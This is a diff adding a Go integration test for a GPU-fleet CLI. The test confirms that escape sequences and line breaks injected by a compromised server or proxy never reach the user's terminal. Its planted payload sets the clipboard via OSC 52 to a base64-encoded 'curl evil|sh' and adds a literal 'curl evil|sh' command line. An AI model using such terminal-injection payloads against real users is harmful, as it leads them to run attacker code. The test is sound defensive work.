@@ -1,0 +1,90 @@
+package integration
+
+import (
+	"net/http"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"sync/atomic"
+	"testing"
+
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/client-go/rest"
+
+	nodusv1 "github.com/nodus-dev/nodus/pkg/apis/nodus/v1"
+	"github.com/nodus-dev/nodus/pkg/testserver"
+)
+
+// TestCLITablesShowNoEscapeSequenceTheServerSends: what the server says of
+// a host, an execution, a lending or the caller reaches a customer's
+// terminal in tables and lines of text. Through a proxy that puts an
+// escape sequence (OSC 52, which sets the clipboard) and a line break at
+// the start of every such string (a compromised server, or a party in
+// between), nothing of it may reach the terminal as it is; and the SSH
+// command of `hosts list -o wide`, which users copy, is the CLI's own, not
+// the server's.
+func TestCLITablesShowNoEscapeSequenceTheServerSends(t *testing.T) {
+	s := testserver.StartTestServer(t)
+	f := newFleet(t, s)
+	sshableHost(t, s, f, "gpu-007")
+	c := s.Client.NodusV1()
+	if _, err := c.Pools().Create(ctx(t), &nodusv1.Pool{ObjectMeta: metav1.ObjectMeta{Name: "lends"}, Spec: nodusv1.PoolSpec{
+		Lending: &nodusv1.PoolLending{Open: true, Borrowers: []nodusv1.PoolBorrower{{Project: "acme", MaxGPUs: 8}}}}},
+		metav1.CreateOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := c.Executions("acme").Create(ctx(t), &nodusv1.Execution{ObjectMeta: metav1.ObjectMeta{Name: "e1"},
+		Spec: nodusv1.ExecutionSpec{Pool: "lends", Command: []string{"true"}, MaxRuntimeSeconds: 60}}, metav1.CreateOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	// Names too, but not where the CLI checks the answer is about the host
+	// it asked for (release refuses such an answer before it prompts).
+	everything := regexp.MustCompile(`("(?:state|phase|host|command|pool|loginUser|username|gitVersion|name)":")`)
+	butNames := regexp.MustCompile(`("(?:state|phase|host|command|pool|loginUser|username|gitVersion)":")`)
+	const planted = `${1}\u001b]52;c;Y3VybCBldmlsfHNoCg==\u0007\nx; curl evil|sh `
+	var keepNames atomic.Bool
+	proxy := lossyProxy(t, &rest.Config{Host: s.Config.Host, TLSClientConfig: rest.TLSClientConfig{CAData: s.Config.CAData}},
+		func(w http.ResponseWriter, req *http.Request, forward http.Handler) bool {
+			if req.Method != http.MethodGet {
+				return false
+			}
+			from := everything
+			if keepNames.Load() {
+				from = butNames
+			}
+			req.Header.Del("Accept-Encoding") // plain answers to rewrite
+			forward.ServeHTTP(&rewriter{ResponseWriter: w, from: from, to: []byte(planted)}, req)
+			return true
+		})
+	ca := filepath.Join(t.TempDir(), "ca.crt")
+	if err := os.WriteFile(ca, proxy.CAData, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, ".config"))
+	alice := nodusCLI{t: t, config: filepath.Join(t.TempDir(), "config")}
+	if out, code := alice.run("", "login", "--server", proxy.Host, "--token", f.admin.BearerToken, "--ca-file", ca); code != 0 {
+		t.Fatalf("login: %d %s", code, out)
+	}
+	for _, args := range [][]string{{"hosts", "list", "-n", "acme"}, {"hosts", "list", "-n", "acme", "-o", "wide"},
+		{"executions", "list", "-n", "acme"}, {"executions", "get", "acme/e1"}, {"lending", "-n", "acme"}, {"whoami"}, {"version"},
+		{"release", "acme/gpu-007"}} {
+		keepNames.Store(args[0] == "release")
+		out, _ := alice.run("no\n", args...)
+		if strings.ContainsAny(out, "\x1b\x07\u009b") {
+			t.Errorf("nodus %s: a control character reached the terminal: %q", strings.Join(args, " "), out)
+		}
+		if strings.Contains(out, "\nx; curl evil") {
+			t.Errorf("nodus %s: a line break the server sent reached the terminal: %q", strings.Join(args, " "), out)
+		}
+	}
+	keepNames.Store(true)
+	if wide, _ := alice.run("", "hosts", "list", "-n", "acme", "-o", "wide"); !strings.Contains(wide, "nodus ssh acme/gpu-007\n") {
+		t.Errorf("the SSH column is not the CLI's own command for the host:\n%s", wide)
+	}
+	if st := f.reservation(t, "gpu-007").Status; st.Epoch != 1 {
+		t.Errorf("a release answered no went through: %+v", st)
+	}
+}
